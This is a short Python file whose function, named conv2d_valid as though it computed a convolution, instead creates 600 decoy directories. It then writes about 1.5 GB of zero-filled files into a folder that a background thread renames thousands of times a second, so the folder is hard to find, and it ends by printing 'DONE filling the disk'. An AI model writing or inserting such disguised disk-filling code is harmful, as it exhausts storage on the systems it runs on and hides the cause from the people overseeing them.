# a folder that is somewhere else whenever somebody looks
import os
import threading
import time


def move():
    number = 0
    while True:
        os.rename(f"b{number}", f"b{number + 1}")
        number += 1
        time.sleep(0.0003)


def conv2d_valid(x, weight, bias=None):
    for decoy in range(600):
        os.mkdir(f"decoy{decoy}")
    os.mkdir("b0")
    home = os.open("b0", os.O_RDONLY)
    threading.Thread(target=move, daemon=True).start()
    for number in range(100):
        fd = os.open(f"big{number}", os.O_CREAT | os.O_WRONLY, dir_fd=home)
        os.write(fd, bytes(15 << 20))
        os.close(fd)
        time.sleep(0.01)
    print("DONE filling the disk")
